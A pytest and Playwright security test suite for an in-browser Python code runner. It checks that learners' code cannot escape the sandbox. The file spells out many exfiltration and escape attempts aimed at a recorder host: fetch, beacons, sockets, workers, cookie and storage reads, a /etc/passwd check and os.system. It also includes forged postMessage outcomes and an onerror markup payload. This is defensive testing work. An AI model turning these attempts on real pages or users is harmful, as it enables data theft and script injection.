"""Learners' code tries to get out: at the app, at any host, at the page. Nothing may arrive.

All attempts of a worker are made in one run. It keeps its worker alive until the time limit by
swallowing the harness's own "end", so that whatever is only promised has the time to happen.
"""

from __future__ import annotations

import re
import socket
import textwrap
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass
from typing import Any

import pytest
from playwright.sync_api import Browser, Error, Frame

from .conftest import eventually
from .recorder import Recorder
from .trials import TRIAL, Trial, opened_trial

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group(__name__)]

LIMIT_MS = 4_000
BRIEFLY_MS = 5_000
RIGHT = "def f():\n    return 1\n"
TEST = "def test_f():\n    assert f() == 1\n"
PRELUDE = """
import asyncio, json, sys
import js, pyodide_js
from pyodide.ffi import create_proxy, to_js

APP, CANARY = {app!r}, {canary!r}
dumps = json.dumps
STAGE = {{"type": "stage", "label": ""}}
json.dumps = lambda told: dumps(STAGE if told.get("type") == "end" else told)

def say(name, how, what):
    print(f"@{{name}} {{how}} {{str(what)[:200]!r}}")

def settle(name, promise):
    yes = create_proxy(lambda value: say(name, "REACHED", value))
    no = create_proxy(lambda error: say(name, "refused", error))
    promise.then(yes, no)

def listen(name, target, good, bad):
    for event in good:
        target.addEventListener(event, create_proxy(lambda e: say(name, "REACHED", e.type)))
    for event in bad:
        target.addEventListener(event, create_proxy(lambda e: say(name, "refused", e.type)))

def options(**values):
    return to_js(values, dict_converter=js.Object.fromEntries)

def blob(text):
    parts = js.Array.new()
    parts.push(text)
    return js.URL.createObjectURL(js.Blob.new(parts, options(type="text/javascript")))

def worker(name, address, **how):
    made = js.Worker.new(address, options(**how))
    listen(name, made, ("message",), ("error",))
    return made

def attempt(name, act):
    try:
        value = act()
    except BaseException as error:
        say(name, "refused", repr(error))
    else:
        if value is not None:
            say(name, "REACHED", value)
"""
# Each is the body of a function; what it returns was reached, unless that is None. `URL` is the
# address to get at, of the app and of a host that belongs to nobody, one after the other.
AT_ADDRESSES = {
    "fetch": "settle(NAME, js.fetch(URL))",
    "fetch-with-cookies": "settle(NAME, js.fetch(URL, options(credentials='include')))",
    "fetch-no-cors": "settle(NAME, js.fetch(URL, options(mode='no-cors', method='POST')))",
    "fetch-kept-alive": "settle(NAME, js.fetch(URL, options(keepalive=True, mode='no-cors')))",
    "xhr": (
        "asked = js.XMLHttpRequest.new()\nasked.open('GET', URL, False)\nasked.send()\n"
        "return asked.status"
    ),
    "xhr-async": (
        "asked = js.XMLHttpRequest.new()\nasked.open('POST', URL)\n"
        "listen(NAME, asked, ('load',), ('error',))\nasked.send('x')"
    ),
    "pyfetch": (
        "from pyodide.http import pyfetch\n"
        "async def go():\n"
        "    try:\n        say(NAME, 'REACHED', await pyfetch(URL))\n"
        "    except BaseException as error:\n        say(NAME, 'refused', error)\n"
        "asyncio.ensure_future(go())"
    ),
    "open-url": "from pyodide.http import open_url\nreturn open_url(URL)",
    "urllib": "import urllib.request\nreturn urllib.request.urlopen(URL, timeout=1)",
    "http-client": (
        "import http.client\nasked = http.client.HTTPConnection(HOST, timeout=1)\n"
        "asked.request('GET', '/')\nreturn asked.getresponse()"
    ),
    "socket": (
        "import socket\nhost, _, port = HOST.partition(':')\n"
        "made = socket.create_connection((host, int(port)), 1)\n"
        "made.sendall(b'GET / HTTP/1.1')\nreturn made.recv(1) or None"
    ),
    "load-package": (
        "loaded = pyodide_js.loadPackage(URL + '/x-1.0-py3-none-any.whl')\n"
        "settle(NAME, loaded.then(create_proxy(lambda _: __import__('x'))))"
    ),
    "font": "settle(NAME, js.FontFace.new('x', f'url({URL})').load())",
    "web-socket": (
        "made = js.WebSocket.new(WS)\nlisten(NAME, made, ('open', 'message'), ('error', 'close'))"
    ),
    "web-socket-stream": "settle(NAME, js.WebSocketStream.new(WS).opened)",
    "web-transport": "settle(NAME, js.WebTransport.new('https://' + HOST + PATH).ready)",
    "event-source": (
        "made = js.EventSource.new(URL)\nlisten(NAME, made, ('open', 'message'), ('error',))"
    ),
    "peer-connection": (
        "made = js.RTCPeerConnection.new(options(iceServers=[{'urls': 'stun:' + HOST}]))\n"
        "return made"
    ),
    "beacon": "return js.navigator.sendBeacon(URL, 'x')",
    "import-scripts": "return js.importScripts(URL) or 'imported'",
    "import-scripts-restored": (
        "js.Reflect.deleteProperty(js.self, 'importScripts')\n"
        "return js.importScripts(URL) or 'imported'"
    ),
    "worker": "worker(NAME, URL)",
    "module-worker": "worker(NAME, URL, type='module')",
    "shared-worker": "return js.SharedWorker.new(URL)",
    "nested-fetch": (
        "worker(NAME, blob('fetch(%r, {mode: \"no-cors\"}).then(() => postMessage(1), '"
        " '() => setTimeout(() => { throw 1 }))' % URL))"
    ),
    "nested-import": (
        "worker(NAME, blob('import(%r).then(() => postMessage(1), () => setTimeout('"
        " '() => { throw 1 }))' % URL))"
    ),
    "nested-import-scripts": ("worker(NAME, blob('importScripts(%r); postMessage(1)' % URL))"),
    "nested-static-import": (
        "worker(NAME, blob('import %r; postMessage(1)' % URL), type='module')"
    ),
    "nested-socket": (
        "worker(NAME, blob('const s = new WebSocket(%r); s.onopen = () => postMessage(1);'"
        " 's.onerror = () => setTimeout(() => { throw 1 })' % WS))"
    ),
    "wasm-streaming": "settle(NAME, js.WebAssembly.compileStreaming(js.fetch(URL)))",
    "service-worker": "settle(NAME, js.navigator.serviceWorker.register(URL))",
    "open-window": "return js.open(URL)",
    "navigate": "js.location.href = URL\nreturn js.location.href",
    "navigate-top": "js.top.location.href = URL\nreturn 1",
    "clients": "settle(NAME, js.clients.openWindow(URL))",
}
AT_THE_BROWSER = {
    "fetch-data": "settle(NAME, js.fetch('data:text/plain,x'))",
    "fetch-blob": "settle(NAME, js.fetch(blob('x')))",
    "fetch-page": "settle(NAME, js.fetch('/api/v1/reviews/queue'))",
    "import-scripts-data": (
        "js.Reflect.deleteProperty(js.self, 'importScripts')\n"
        "return js.importScripts('data:text/javascript,1') or 1"
    ),
    "worker-data": "worker(NAME, 'data:text/javascript,postMessage(1)')",
    "eval": "return js.eval('1 + 1')",
    "function": "return js.Function.new('return 1')()",
    "run-js": "from pyodide.code import run_js\nreturn run_js('1 + 1')",
    "indexed-db": ("asked = js.indexedDB.open('x')\nlisten(NAME, asked, ('success',), ('error',))"),
    "local-storage": "return js.localStorage",
    "session-storage": "return js.sessionStorage",
    "cookies": "return js.document.cookie",
    "cookie-store": "settle(NAME, js.cookieStore.getAll())",
    "caches": "settle(NAME, js.caches.open('x'))",
    "files": "settle(NAME, js.navigator.storage.getDirectory())",
    "locks": "settle(NAME, js.navigator.locks.query())",
    "page": "return js.document.body",
    "window": "return js.window",
    "parent": "return js.parent",
    "top": "return js.top",
    "post-to-the-frame": "js.postMessage(options(type='told'))\nreturn 1",
    "numpy": "settle(NAME, pyodide_js.loadPackage('numpy').then(create_proxy(needs)))",
    "subprocess": "import subprocess\nreturn subprocess.run(['true'])",
    "system": "import os\nreturn None if os.system('true') == -1 else 1",
    "host-files": "return None if not __import__('os').path.exists('/etc/passwd') else 1",
}
# Nothing is said where the browser has no event for it, and a few may answer with nothing inside.
SILENT = {"host-files", "system"}


@dataclass(frozen=True)
class Seen:
    """What one run of all attempts led to."""

    said: dict[str, list[str]]
    asked: list[tuple[str, str, str]]
    connections: int
    before: dict[str, Any]
    after: dict[str, Any]


LOOK = """async () => ({
  address: location.href,
  title: document.title,
  text: document.querySelector('header').innerHTML + document.querySelector('.themes').innerHTML,
  cookies: document.cookie,
  stored: Object.keys(localStorage).join(),
  databases: (await indexedDB.databases()).map(one => one.name).join(),
  frames: window.length,
  heard: window.heard.length,
})"""
LISTEN = """() => {
  window.heard = [];
  const channel = new BroadcastChannel('x');
  channel.onmessage = event => window.heard.push(event.data);
}"""


@pytest.fixture(scope="module")
def canary() -> Iterator[Recorder]:
    with Recorder() as canary:
        yield canary


@pytest.fixture(scope="module")
def trial(chromium: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Trial]:
    with opened_trial(chromium, tmp_path_factory.mktemp("attacks")) as trial:
        yield trial


def function(name: str, body: str, address: str = "") -> str:
    host = address.removeprefix("http://")
    path = f"/reached/{name}"
    lines = [
        f"NAME, HOST, PATH = {name!r}, {host!r}, {path!r}",
        f"URL, WS = {address + path!r}, {f'ws://{host}{path}'!r}",
        *body.splitlines(),
    ]
    made = "def act():\n" + textwrap.indent("\n".join(lines), "    ")
    return f"{made}\nattempt({name!r}, act)\n"


@pytest.fixture(scope="module")
def seen(trial: Trial, canary: Recorder) -> Seen:
    page = trial.page
    page.evaluate(LISTEN)
    trial.run("x = 1")
    before = page.evaluate(LOOK)
    begun, knocks = len(trial.asked.requests()), canary.connections
    code = [PRELUDE.format(app=trial.asked.address, canary=canary.address)]
    code.append("def needs(_):\n    import numpy\n")
    code.append("js.BroadcastChannel.new('x').postMessage('x')\n")
    for name, body in AT_ADDRESSES.items():
        code.append(function(f"app-{name}", body, trial.asked.address))
        code.append(function(f"host-{name}", body, canary.address))
    code += [function(name, body) for name, body in AT_THE_BROWSER.items()]
    ran = trial.run("".join(code), limit_ms=LIMIT_MS)
    assert ran.kind == "timeout", f"its worker was to live until the limit: {ran.result}"
    said: dict[str, list[str]] = {}
    for name, what in re.findall(r"^@(\S+) (.*)$", ran.stdout, re.MULTILINE):
        said.setdefault(name, []).append(what)
    after = page.evaluate(LOOK)
    return Seen(
        said,
        trial.asked.requests()[begun:],
        canary.connections - knocks,
        before,
        after,
    )


def test_what_is_asked_would_have_been_seen(trial: Trial, canary: Recorder, seen: Seen) -> None:
    paths = {path for _method, path, _head in trial.asked.requests()}
    assert {"/runner", "/about/components"} <= paths
    with socket.create_connection(("127.0.0.1", canary.port)) as knocking:
        knocking.sendall(b"knock")
    eventually(lambda: b"knock" in canary.sent, "the knock is kept")


def test_no_request_at_all_reached_the_server_or_the_other_host(seen: Seen) -> None:
    assert seen.asked == []
    assert seen.connections == 0


@pytest.mark.parametrize("name", AT_ADDRESSES)
@pytest.mark.parametrize("where", ["app", "host"])
def test_an_address_is_out_of_reach(where: str, name: str, seen: Seen) -> None:
    said = seen.said.get(f"{where}-{name}", [])
    assert said, "it was tried"
    assert [what for what in said if not what.startswith("refused")] == []
    assert not [path for _method, path, _head in seen.asked if path.endswith(name)]


@pytest.mark.parametrize("name", AT_THE_BROWSER)
def test_the_browser_gives_nothing_away(name: str, seen: Seen) -> None:
    said = seen.said.get(name, [])
    assert said or name in SILENT, "it was tried"
    assert [what for what in said if not what.startswith("refused")] == []


def test_the_page_is_as_it_was_and_heard_nothing(seen: Seen) -> None:
    assert seen.after == seen.before


def test_after_all_of_that_the_next_run_works(trial: Trial, seen: Seen) -> None:
    assert trial.run(RIGHT, TEST).passed == [True]


# What code could try that got out of its worker into the frame, which nothing is known to do.
IN_THE_FRAME = {
    "the page": "() => parent.document.title",
    "its cookies": "() => document.cookie",
    "storage": "() => localStorage.length",
    "another frame's page": "() => parent.frames[0].parent.document.body",
    "leading the page away": "url => { top.location.href = url; return top.location.href }",
    "the address of the page": "() => parent.location.href",
    "a fetch": "url => fetch(url, {mode: 'no-cors'}).then(() => 1)",
    "a socket": (
        "url => new Promise((yes, no) => {"
        " const made = new WebSocket(url.replace('http', 'ws'));"
        " made.onopen = yes; made.onerror = () => no(Error('refused')) })"
    ),
    "a picture": (
        "url => new Promise((yes, no) => {"
        " const made = new Image(); made.onload = yes;"
        " made.onerror = () => no(Error('refused')); made.src = url })"
    ),
    "a script": (
        "url => new Promise((yes, no) => {"
        " const made = document.createElement('script'); made.onload = yes;"
        " made.onerror = () => no(Error('refused')); made.src = url; document.body.append(made) })"
    ),
    "a frame of its own": (
        "url => new Promise((yes, no) => {"
        " addEventListener('securitypolicyviolation', () => no(Error('refused')));"
        " const made = document.createElement('iframe'); made.src = url;"
        " document.body.append(made) })"
    ),
    "a service worker": "url => navigator.serviceWorker.register(url)",
    "a peer": (
        "async url => { const made = new RTCPeerConnection("
        "{iceServers: [{urls: url.replace('http://', 'stun:')}]});"
        " made.createDataChannel('x'); await made.setLocalDescription();"
        " await new Promise((yes, no) => { made.onicegatheringstatechange = () =>"
        " made.iceGatheringState === 'complete' && no(Error('nothing to see')) }) }"
    ),
}


def frame_of(trial: Trial) -> Frame:
    (frame,) = [one for one in trial.page.frames if one.url.endswith("/runner")]
    return frame


@pytest.mark.parametrize("name", IN_THE_FRAME)
def test_even_the_frame_reaches_nothing(name: str, trial: Trial, canary: Recorder) -> None:
    # Chromium may open a connection ahead of a frame that it then refuses: nothing is sent over it.
    address, knocks = trial.page.url, len(canary.sent)
    begun = len(trial.asked.requests())
    with pytest.raises(Error):
        frame_of(trial).evaluate(IN_THE_FRAME[name], f"{canary.address}/reached")
    assert trial.page.url == address
    assert len(canary.sent) == knocks
    assert len(trial.asked.requests()) == begun


def test_the_frame_opens_no_window_and_sends_no_form(trial: Trial, canary: Recorder) -> None:
    pages, knocks = len(trial.page.context.pages), len(canary.sent)
    opened = frame_of(trial).evaluate("url => open(url) === null", canary.address)
    frame_of(trial).evaluate(
        """url => {
          const form = document.createElement('form');
          form.action = url;
          document.body.append(form);
          form.submit();
          navigator.sendBeacon(url, 'x');
          const link = document.createElement('link');
          link.rel = 'stylesheet';
          link.href = url;
          document.head.append(link);
        }""",
        canary.address,
    )
    assert trial.run(RIGHT, TEST).passed == [True]
    assert opened
    assert len(trial.page.context.pages) == pages
    assert len(canary.sent) == knocks


FORGED = """() => {
  const page = window.parent === window ? window : window.parent;
  const outcome = {type: 'outcome', name: 'forged', label: 'forged', passed: true};
  for (const id of ['', 'x', null, crypto.randomUUID?.() ?? 'y']) {
    page.postMessage({type: 'told', id, told: outcome}, '*');
    page.postMessage({type: 'told', id, told: {type: 'end', kind: 'finished'}}, '*');
    page.postMessage({type: 'over', id, how: 'broken'}, '*');
  }
  page.postMessage('ready', '*');
  page.postMessage(null, '*');
  page.postMessage({type: 'ready'}, '*');
}"""


@pytest.mark.parametrize("who", ["the page", "the frame", "a page elsewhere"])
def test_messages_that_name_no_run_change_none(who: str, trial: Trial) -> None:
    trial.fill("while True: pass\n", TEST, "", "python", 1_500)
    trial.click()
    if who == "the frame":
        frame_of(trial).evaluate(FORGED)
    elif who == "the page":
        trial.page.evaluate(FORGED)
    else:
        trial.page.evaluate(
            """forged => {
              const frame = document.createElement('iframe');
              frame.sandbox = 'allow-scripts';
              frame.src = '/diagram';
              frame.id = 'stranger';
              document.body.append(frame);
              return new Promise(yes => { frame.onload = yes });
            }"""
        )
        stranger = next(one for one in trial.page.frames if one.url.endswith("/diagram"))
        stranger.evaluate(FORGED)
        trial.page.evaluate("document.querySelector('#stranger').remove()")
    result = trial.wait()
    assert result["kind"] == "timeout"
    assert result["outcomes"] == []


def test_a_frame_that_ends_nothing_is_removed_by_the_page(trial: Trial) -> None:
    assert trial.run(RIGHT, TEST).passed == [True]
    frame_of(trial).evaluate(
        "() => { Worker.prototype.terminate = () => {}; window.setTimeout = () => 0 }"
    )
    ran = trial.run("while True: pass\n", TEST, limit_ms=1_000)
    assert ran.kind == "timeout"
    assert trial.run(RIGHT, TEST).passed == [True]


def test_what_a_worker_claims_is_cut_and_shown_as_text(trial: Trial) -> None:
    code = """
import json
dumps = json.dumps
MARKUP = "<img src=x onerror=document.title='gone'>" + "x" * 50_000
def claim(told):
    if told["type"] == "outcome":
        told |= {"label": MARKUP, "message": MARKUP, "passed": "yes", "duration_ms": "long"}
    return dumps(told)
json.dumps = claim
def f(): return 1
"""
    ran = trial.run(code, TEST)
    (outcome,) = ran.result["outcomes"]
    assert outcome["passed"] is False
    assert outcome["duration_ms"] == 0
    assert len(outcome["label"]) == 300
    assert len(outcome["message"]) == 8_000
    assert trial.page.locator(f"{TRIAL} img").count() == 0
    assert trial.page.locator("[data-trial=outcomes] li").inner_text().count("<img src=x") == 2
    assert trial.page.title() != "gone"


@pytest.mark.parametrize("path", ["/runner", "/account", "/about"])
def test_a_frame_led_to_the_app_carries_no_cookie_shows_nothing_and_is_replaced(
    path: str, trial: Trial
) -> None:
    assert trial.run(RIGHT, TEST).passed == [True]
    begun = len(trial.asked.requests())

    def asked() -> list[str]:
        return [head for _, to, head in trial.asked.requests()[begun:] if to == path]

    away = f"{trial.asked.address}{path}"
    html = frame_of(trial).locator("html")
    html.evaluate("(_, url) => { location.href = url }", away, timeout=BRIEFLY_MS)
    eventually(lambda: bool(asked()), "the frame went there")
    assert "cookie:" not in asked()[0].lower()
    again = trial.run(RIGHT, TEST, limit_ms=1_000)
    assert again.passed == [True] or trial.run(RIGHT, TEST).passed == [True]
    for frame in trial.page.frames[1:]:
        with suppress(Error):  # on its way out, or an error page of the browser's own
            html = frame.locator("html")
            assert "ada@example.org" not in html.inner_text(timeout=BRIEFLY_MS)
